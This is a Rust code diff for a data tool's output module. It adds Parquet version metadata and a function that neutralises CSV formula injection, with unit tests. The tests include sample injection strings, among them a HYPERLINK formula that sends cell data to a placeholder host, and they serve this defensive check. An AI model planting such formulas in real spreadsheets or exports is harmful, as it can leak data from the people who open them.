@@ -1,15 +1,17 @@
-//! Output: Parquet tables and atomic folders. Outputs are built in a temporary sibling folder and
-//! renamed into place at the end, so a failed run never leaves half an output behind.
+//! Output tables: Parquet (marked with ablate's key-value metadata) and CSV. Where they go, and
+//! what may be replaced, is [`crate::io::output`]'s job.
 
 use std::fs::File;
-use std::path::{Path, PathBuf};
+use std::path::Path;
 
 use polars::prelude::*;
 
 use crate::error::{Error, Result};
+use crate::io::output;
 
-/// Writes a data frame as Parquet (zstd, with statistics). Deterministic: the same frame gives
-/// the same bytes.
+/// Writes a data frame as Parquet (zstd, with statistics), with the key-value metadata entry
+/// [`output::PARQUET_KEY`] = the tool version, which marks the file as ablate's. Deterministic: the
+/// same frame gives the same bytes.
 ///
 /// # Errors
 /// The file cannot be created or written.
@@ -17,6 +19,10 @@ pub fn parquet(df: &mut DataFrame, path: &Path) -> Result<()> {
     let file = File::create(path).map_err(|e| Error::io(path, e))?;
     ParquetWriter::new(file)
         .with_compression(ParquetCompression::Zstd(None))
+        .with_key_value_metadata(Some(KeyValueMetadata::from_static(vec![(
+            output::PARQUET_KEY.to_string(),
+            env!("CARGO_PKG_VERSION").to_string(),
+        )])))
         .finish(df)
         .map_err(|e| Error::Polars {
             context: format!("writing {}", path.display()),
@@ -25,100 +31,54 @@ pub fn parquet(df: &mut DataFrame, path: &Path) -> Result<()> {
     Ok(())
 }
 
-/// Writes a data frame as CSV with a header line.
+/// Neutralises a CSV cell that a spreadsheet would run as a formula (OWASP's rule against CSV
+/// injection: a leading `=`, `+`, `-`, `@`, tab or carriage return gets a `'` in front). A cell
+/// that parses as a number (such as `-0.0042`) is left alone.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    let risky = text
+        .chars()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
+    if risky && text.trim().parse::<f64>().is_err() {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// Writes a data frame as CSV with a header line. Every text cell (and header) goes through
+/// [`csv_cell`], so no name from the data becomes a spreadsheet formula; numeric columns are
+/// written as numbers.
 ///
 /// # Errors
 /// The file cannot be created or written.
-pub fn csv(df: &mut DataFrame, path: &Path) -> Result<()> {
+pub fn csv(df: &DataFrame, path: &Path) -> Result<()> {
+    let polars_err = |e| Error::Polars {
+        context: format!("writing {}", path.display()),
+        source: e,
+    };
+    let mut columns = Vec::with_capacity(df.width());
+    for col in df.columns() {
+        let name = csv_cell(col.name().as_str()).into_owned();
+        let col = if col.dtype() == &DataType::String {
+            let cells: StringChunked = col
+                .str()
+                .map_err(polars_err)?
+                .iter()
+                .map(|v| v.map(|t| csv_cell(t).into_owned()))
+                .collect();
+            cells.into_column().with_name(name.into())
+        } else {
+            col.clone().with_name(name.into())
+        };
+        columns.push(col);
+    }
+    let mut safe = DataFrame::new(df.height(), columns).map_err(polars_err)?;
     let file = File::create(path).map_err(|e| Error::io(path, e))?;
     CsvWriter::new(file)
         .include_header(true)
-        .finish(df)
-        .map_err(|e| Error::Polars {
-            context: format!("writing {}", path.display()),
-            source: e,
-        })
-}
-
-/// A folder being written: everything goes into a hidden temporary sibling of `target`, and
-/// [`AtomicDir::commit`] renames it into place (replacing an earlier output). Dropped without
-/// commit, the temporary folder is removed.
-#[derive(Debug)]
-pub struct AtomicDir {
-    target: PathBuf,
-    temp: PathBuf,
-    committed: bool,
-}
-
-impl AtomicDir {
-    /// Starts writing `target`.
-    ///
-    /// # Errors
-    /// The parent folder cannot be created, or the temporary folder cannot be made.
-    pub fn create(target: &Path) -> Result<AtomicDir> {
-        let parent = match target.parent() {
-            Some(p) if !p.as_os_str().is_empty() => p.to_path_buf(),
-            _ => PathBuf::from("."),
-        };
-        std::fs::create_dir_all(&parent).map_err(|e| Error::io(&parent, e))?;
-        let name = target
-            .file_name()
-            .map(|n| n.to_string_lossy().to_string())
-            .ok_or_else(|| Error::Usage(format!("{} is not a folder name", target.display())))?;
-        let temp = parent.join(format!(".{name}.tmp-{}", std::process::id()));
-        if temp.exists() {
-            std::fs::remove_dir_all(&temp).map_err(|e| Error::io(&temp, e))?;
-        }
-        std::fs::create_dir(&temp).map_err(|e| Error::io(&temp, e))?;
-        Ok(AtomicDir {
-            target: target.to_path_buf(),
-            temp,
-            committed: false,
-        })
-    }
-
-    /// Path of a file inside the folder being written.
-    pub fn path(&self, name: &str) -> PathBuf {
-        self.temp.join(name)
-    }
-
-    /// Moves the finished folder into place, replacing what was there.
-    ///
-    /// # Errors
-    /// The rename fails.
-    pub fn commit(mut self) -> Result<PathBuf> {
-        let old = self.target.with_file_name(format!(
-            ".{}.old-{}",
-            self.target
-                .file_name()
-                .unwrap_or_default()
-                .to_string_lossy(),
-            std::process::id()
-        ));
-        let had_old = self.target.exists();
-        if had_old {
-            std::fs::rename(&self.target, &old).map_err(|e| Error::io(&self.target, e))?;
-        }
-        if let Err(e) = std::fs::rename(&self.temp, &self.target) {
-            if had_old {
-                let _ = std::fs::rename(&old, &self.target);
-            }
-            return Err(Error::io(&self.target, e));
-        }
-        if had_old {
-            std::fs::remove_dir_all(&old).map_err(|e| Error::io(&old, e))?;
-        }
-        self.committed = true;
-        Ok(self.target.clone())
-    }
-}
-
-impl Drop for AtomicDir {
-    fn drop(&mut self) {
-        if !self.committed {
-            let _ = std::fs::remove_dir_all(&self.temp);
-        }
-    }
+        .finish(&mut safe)
+        .map_err(polars_err)
 }
 
 /// A list<str> column from one list per row (empty lists keep the text item type).
@@ -140,11 +100,17 @@ pub fn list_column(name: &str, lists: &[Vec<String>]) -> Column {
 }
 
 /// Writes an arms table (arm, removed, components, design) to `path`, as Parquet (list columns)
-/// or, for a `.csv` path, CSV (lists joined with `;`). Written to a temporary file and renamed.
+/// or, for a `.csv` path, CSV (lists joined with `;`). Written to a temporary file and renamed; an
+/// existing file is replaced only if ablate wrote it, or with `force` ([`output::write_file`]).
 ///
 /// # Errors
-/// The file cannot be written.
-pub fn arms_table(path: &Path, arms: &[(String, Vec<String>)], design: &str) -> Result<()> {
+/// The file may not be replaced, or cannot be written.
+pub fn arms_table(
+    path: &Path,
+    arms: &[(String, Vec<String>)],
+    design: &str,
+    force: bool,
+) -> Result<()> {
     let csv = path
         .extension()
         .and_then(|e| e.to_str())
@@ -176,17 +142,13 @@ pub fn arms_table(path: &Path, arms: &[(String, Vec<String>)], design: &str) -> 
         context: "building the arms table".into(),
         source: e,
     })?;
-    let tmp = path.with_extension(format!("tmp-{}", std::process::id()));
-    let result = if csv {
-        self::csv(&mut df, &tmp)
-    } else {
-        parquet(&mut df, &tmp)
-    };
-    if let Err(e) = result {
-        let _ = std::fs::remove_file(&tmp);
-        return Err(e);
-    }
-    std::fs::rename(&tmp, path).map_err(|e| Error::io(path, e))
+    output::write_file(path, force, |tmp| {
+        if csv {
+            self::csv(&df, tmp)
+        } else {
+            parquet(&mut df, tmp)
+        }
+    })
 }
 
 #[cfg(test)]
@@ -194,28 +156,28 @@ mod tests {
     use super::*;
 
     #[test]
-    fn uncommitted_dir_leaves_nothing() {
-        let root = tempfile::tempdir().unwrap();
-        let target = root.path().join("out");
-        {
-            let d = AtomicDir::create(&target).unwrap();
-            std::fs::write(d.path("a.txt"), "x").unwrap();
+    fn csv_formulas_are_neutralised_numbers_are_not() {
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://x\"&A1,\"x\")"),
+            "'=HYPERLINK(\"http://x\"&A1,\"x\")"
+        );
+        for risky in ["+1+1", "-cmd", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_cell(risky).starts_with('\''), "{risky:?}");
         }
-        assert!(!target.exists());
-        assert_eq!(std::fs::read_dir(root.path()).unwrap().count(), 0);
+        for safe in ["-0.0042", "+3", "1e-5", "without-system", "", "—"] {
+            assert_eq!(csv_cell(safe), safe);
+        }
     }
 
     #[test]
-    fn commit_replaces_previous_output() {
+    fn csv_writes_neutralised_text_and_plain_numbers() {
         let root = tempfile::tempdir().unwrap();
-        let target = root.path().join("out");
-        std::fs::create_dir(&target).unwrap();
-        std::fs::write(target.join("stale.txt"), "old").unwrap();
-        let d = AtomicDir::create(&target).unwrap();
-        std::fs::write(d.path("a.txt"), "new").unwrap();
-        d.commit().unwrap();
-        assert!(target.join("a.txt").exists());
-        assert!(!target.join("stale.txt").exists());
-        assert_eq!(std::fs::read_dir(root.path()).unwrap().count(), 1);
+        let path = root.path().join("t.csv");
+        let df = df!("arm" => ["=1+2", "ok"], "drop" => [-0.5, 0.25]).unwrap();
+        csv(&df, &path).unwrap();
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "arm,drop\n'=1+2,-0.5\nok,0.25\n"
+        );
     }
 }
